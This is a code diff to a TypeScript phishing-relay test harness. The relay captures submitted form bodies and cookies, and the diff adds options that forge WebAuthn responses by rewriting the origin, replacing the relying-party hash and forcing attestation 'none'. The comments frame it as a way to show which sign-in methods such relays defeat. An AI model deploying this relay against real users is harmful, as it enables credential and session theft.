@@ -6,6 +6,7 @@
  * bodies and every cookie. Tests use it to show which sign-in methods it defeats (password + TOTP) and
  * which it cannot (WebAuthn: the browser binds the assertion to the origin it really talks to).
  */
+import { createHash } from 'node:crypto';
 import http from 'node:http';
 import type { AddressInfo } from 'node:net';
 
@@ -20,6 +21,13 @@ export interface RelayOptions {
    * one, so the browser accepts the call on the lookalike origin.
    */
   rewriteRpId?: string;
+  /**
+   * What a kit does to make a registration or an assertion made on its own origin look like the real
+   * portal's before forwarding it: `origin` writes the portal's origin into clientDataJSON, `rpIdHash`
+   * writes SHA-256 of `realRpId` over the lookalike's in authenticatorData (and inside the attestation
+   * object), `attestationNone` asks the browser for attestation `none`, so no signature covers either.
+   */
+  forgeCeremonies?: { realRpId: string; origin?: boolean; rpIdHash?: boolean; attestationNone?: boolean };
 }
 
 export interface LootCookie {
@@ -100,6 +108,37 @@ export function rewriteSetCookie(cookie: string, lookalikeIsHttps: boolean): str
     .join('; ');
 }
 
+const sha256 = (text: string) => createHash('sha256').update(text).digest();
+
+/** Rewrites a posted WebAuthn response (`{ response: { response: {...} } }`) as `forge` says; see RelayOptions. */
+function forgeCeremonyResponse(fields: Record<string, unknown>, forge: NonNullable<RelayOptions['forgeCeremonies']>, portalOrigin: string, lookalikeRpId: string): Record<string, unknown> {
+  const credential = fields.response as { response?: Record<string, string> } | undefined;
+  const inner = credential?.response;
+  if (!inner || typeof inner.clientDataJSON !== 'string') return fields;
+  const rewritten = { ...inner };
+  if (forge.origin) {
+    const clientData = JSON.parse(Buffer.from(inner.clientDataJSON, 'base64url').toString('utf8')) as Record<string, unknown>;
+    clientData.origin = portalOrigin;
+    rewritten.clientDataJSON = Buffer.from(JSON.stringify(clientData), 'utf8').toString('base64url');
+  }
+  if (forge.rpIdHash) {
+    const [from, to] = [sha256(lookalikeRpId), sha256(forge.realRpId)];
+    if (typeof inner.authenticatorData === 'string') {
+      const data = Buffer.from(inner.authenticatorData, 'base64url');
+      to.copy(data, 0);
+      rewritten.authenticatorData = data.toString('base64url');
+    }
+    if (typeof inner.attestationObject === 'string') {
+      // authData sits inside the CBOR as a byte string: the hash is replaced in place, same length.
+      const object = Buffer.from(inner.attestationObject, 'base64url');
+      const at = object.indexOf(from);
+      if (at >= 0) to.copy(object, at);
+      rewritten.attestationObject = object.toString('base64url');
+    }
+  }
+  return { ...fields, response: { ...credential, response: rewritten } };
+}
+
 export async function startPhishingRelay(options: RelayOptions): Promise<PhishingRelay> {
   const portalAuthority = `${options.portalHost}:${options.portalPort}`;
   const portalOrigin = `http://${portalAuthority}`;
@@ -115,6 +154,7 @@ export async function startPhishingRelay(options: RelayOptions): Promise<Phishin
       const rpId = JSON.stringify(options.rewriteRpId);
       out = out.replace(/"rpId":"[^"]*"/g, `"rpId":${rpId}`).replace(/("rp":\{[^{}]*?"id":)"[^"]*"/g, `$1${rpId}`);
     }
+    if (options.forgeCeremonies?.attestationNone) out = out.replace(/"attestation":"[^"]*"/g, '"attestation":"none"');
     return out;
   };
 
@@ -136,9 +176,12 @@ export async function startPhishingRelay(options: RelayOptions): Promise<Phishin
       const fields = parseFields(contentType, text);
       if (fields) loot.bodies.push({ method: req.method ?? 'GET', path, fields });
       // Form values are percent-encoded: rewrite them decoded, as a kit parsing the form would.
-      const rewritten = contentType.startsWith('application/x-www-form-urlencoded')
+      let rewritten = contentType.startsWith('application/x-www-form-urlencoded')
         ? new URLSearchParams([...new URLSearchParams(text)].map(([name, value]): [string, string] => [name, toPortal(value)])).toString()
         : toPortal(text);
+      if (options.forgeCeremonies && fields && contentType.startsWith('application/json')) {
+        rewritten = toPortal(JSON.stringify(forgeCeremonyResponse(fields, options.forgeCeremonies, portalOrigin, options.rewriteRpId ?? options.lookalikeHost)));
+      }
       body = Buffer.from(rewritten, 'utf8');
     }
 
